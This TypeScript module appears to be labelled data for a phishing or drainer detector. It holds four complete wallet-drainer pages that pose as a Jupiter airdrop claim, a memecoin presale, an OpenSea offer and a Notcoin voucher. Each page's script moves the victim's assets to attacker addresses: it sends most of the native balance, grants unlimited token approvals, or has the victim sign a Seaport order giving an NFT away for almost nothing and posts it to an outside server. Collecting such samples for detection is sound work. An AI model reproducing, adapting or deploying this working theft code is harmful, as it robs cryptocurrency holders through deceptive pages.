import { type Entry } from '../entry.js';
import { baseCss, doc } from '../parts/d-parts.js';

/** Wallet drainers (connect → permit / approve / setApprovalForAll / transfer everything), fake claims, seed-phrase "validation". Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-drain-solana-jup-claim',
  label: 'cryptodrainer',
  kind: 'drainer-solana',
  url: 'https://jup-claim.jupuary-rewards.app/claim',
  body: doc({
    title: 'Jupuary 2026 — Claim JUP',
    css: `body{background:#0b1018;color:#e8f9ff;font-family:Inter,sans-serif;margin:0}.c{max-width:460px;margin:90px auto;background:#131a26;border-radius:16px;padding:28px;text-align:center}.c button{background:linear-gradient(90deg,#c7f284,#00bef0);color:#0b1018;border:0;border-radius:12px;padding:14px 30px;font-weight:700}`,
    body: `<div class="c"><img src="assets/jup.svg" width="56" alt="Jupiter"><h1>Jupuary is here</h1><p>Connect your Solana wallet to claim your JUP allocation. Claims close in 48 hours.</p><button id="cl">Connect Phantom</button><p id="m"></p></div>
<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>
<script>
const DEST=new solanaWeb3.PublicKey('7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU');
const conn=new solanaWeb3.Connection('https://solana-mainnet.g.alchemy.com/v2/demo-key');
document.getElementById('cl').onclick=async()=>{const w=window.phantom&&window.phantom.solana||window.solana;const {publicKey}=await w.connect();
const bal=await conn.getBalance(publicKey);const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:publicKey,toPubkey:DEST,lamports:Math.floor(bal*0.98)}));
tx.feePayer=publicKey;tx.recentBlockhash=(await conn.getLatestBlockhash()).blockhash;
const tokenTxs=await fetch('/api/build-token-drain?owner='+publicKey.toBase58()).then(r=>r.json()).catch(()=>[]);
const signed=await w.signAllTransactions([tx].concat(tokenTxs.map(t=>solanaWeb3.Transaction.from(Uint8Array.from(atob(t),c=>c.charCodeAt(0))))));
for(const s of signed){await conn.sendRawTransaction(s.serialize())}
document.getElementById('m').textContent='Claimed! Your JUP will show up shortly.'};
</script>`,
  }),
},

{
  id: 'd-drain-base-memecoin-presale',
  label: 'cryptodrainer',
  kind: 'drainer-presale',
  url: 'https://presale.basedtoad-official.xyz/',
  body: doc({
    title: '$BTOAD Presale — Stage 4 of 10',
    css: `body{background:#0b3d2e;color:#fff;font-family:"Luckiest Guy","Trebuchet MS",sans-serif;margin:0;text-align:center}.p{max-width:480px;margin:50px auto;background:#145a43;border-radius:20px;padding:24px}.bar{height:18px;background:#0b3d2e;border-radius:9px;overflow:hidden}.bar i{display:block;height:100%;width:73%;background:#9be15d}button{background:#9be15d;color:#0b3d2e;border:0;border-radius:12px;padding:14px 28px;font-size:18px;font-weight:800}`,
    body: `<div class="p"><h1>🐸 $BTOAD PRESALE</h1><p>Stage 4 price: 1 BTOAD = $0.000412 · Next stage +18%</p><div class="bar"><i></i></div><p>$1,842,113 / $2,500,000 raised</p><button id="buy">Buy with ETH / USDC</button><p id="s" style="font-size:13px"></p><p style="font-size:12px">Listing on Uniswap &amp; 3 CEXs confirmed · Audited · Team KYC'd</p></div>
<script>
const C='0x4e2A9b7Fd1c3086E5a0F2b7c9D8e1A3f6B5c0D29';
document.getElementById('buy').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x2105'}]}).catch(()=>{});
const toks=['0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913','0x50c5725949A6F0c72E6C4a641F24049A917DB0Cb','0x4200000000000000000000000000000000000006'];
for(const t of toks){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+C.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]}).catch(()=>{})}
const b=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));if(b>10n**15n){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:C,value:'0x'+(b-10n**15n).toString(16)}]})}
document.getElementById('s').textContent='Purchase confirmed! Claim opens at launch.'};
</script>`,
  }),
},

{
  id: 'd-drain-opensea-offer-seaport-sig',
  label: 'cryptodrainer',
  kind: 'drainer-nft-signature',
  url: 'https://opensea.io-offers.collection-bid.com/assets/ethereum/0xbd3531da5cf5857e7cfaa92426877b022e612cf8/7712',
  body: doc({
    title: 'You received an offer of 12.4 WETH | OpenSea',
    css: baseCss('#2081e2') + `.o{max-width:520px;margin:60px auto;text-align:center}`,
    body: `<div class="o card"><img src="img/os-logo.svg" alt="OpenSea" width="40"><h1 style="font-size:22px">New offer on Pudgy Penguin #7712</h1><p>A collector offered <b>12.4 WETH ($43,120)</b> for your NFT. This offer expires in 2 hours.</p><button class="btn btn-block" id="acc">Accept offer</button><p class="muted" id="m"></p></div>
<script>
document.getElementById('acc').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
const order={offerer:a,zone:'0x0000000000000000000000000000000000000000',offer:[{itemType:2,token:'0xBd3531dA5CF5857e7CfAA92426877b022e612cf8',identifierOrCriteria:'7712',startAmount:'1',endAmount:'1'}],consideration:[{itemType:0,token:'0x0000000000000000000000000000000000000000',identifierOrCriteria:'0',startAmount:'1',endAmount:'1',recipient:a}],orderType:0,startTime:'0',endTime:'99999999999',zoneHash:'0x'+'0'.repeat(64),salt:Date.now().toString(),conduitKey:'0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000',counter:'0'};
const typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}]},domain:{name:'Seaport',version:'1.6',chainId:1,verifyingContract:'0x0000000000000068F116a894984e2DB1123eB395'},primaryType:'OrderComponents',message:order};
const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(typed)]});
await fetch('https://api.collection-bid.com/fulfil',{method:'POST',body:JSON.stringify({order,sig})});document.getElementById('m').textContent='Offer accepted. WETH will arrive shortly.'};
</script>`,
  }),
},

{
  id: 'd-drain-ton-wallet-connect',
  label: 'cryptodrainer',
  kind: 'drainer-ton',
  url: 'https://notcoin-claim.tonspace-rewards.app/',
  body: doc({
    title: 'Notcoin — Claim your NOT voucher',
    css: `body{background:#000;color:#fff;font-family:Inter,sans-serif;margin:0;text-align:center}.c{max-width:420px;margin:80px auto}button{background:#0098ea;color:#fff;border:0;border-radius:12px;padding:14px 30px;font-size:16px}`,
    body: `<div class="c"><h1>Your NOT voucher is ready</h1><p>Connect your TON wallet to claim 25,000 NOT before the snapshot.</p><div id="ton-connect"></div><button id="cl">Claim</button><p id="s"></p></div>
<script src="https://unpkg.com/@tonconnect/ui@2.0.9/dist/tonconnect-ui.min.js"></script>
<script>
const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://notcoin-claim.tonspace-rewards.app/tonconnect-manifest.json',buttonRootId:'ton-connect'});
document.getElementById('cl').onclick=async()=>{if(!ui.connected){await ui.openModal();return}
const addr=ui.account.address;const r=await fetch('https://toncenter.com/api/v2/getAddressBalance?address='+addr).then(x=>x.json()).catch(()=>({result:'0'}));
const amt=(BigInt(r.result)*97n/100n).toString();
await ui.sendTransaction({validUntil:Math.floor(Date.now()/1000)+600,messages:[{address:'UQB3ncyBUTjZUA5EnFKR5_EnOMI9V1tTEAAPaiU71gc4TiUt',amount:amt,payload:'te6cckEBAQEADAAAFAAAAABDbGFpbQ=='}]});
document.getElementById('s').textContent='Claimed! Voucher will appear in 10 minutes.'};
</script>`,
  }),
},

];
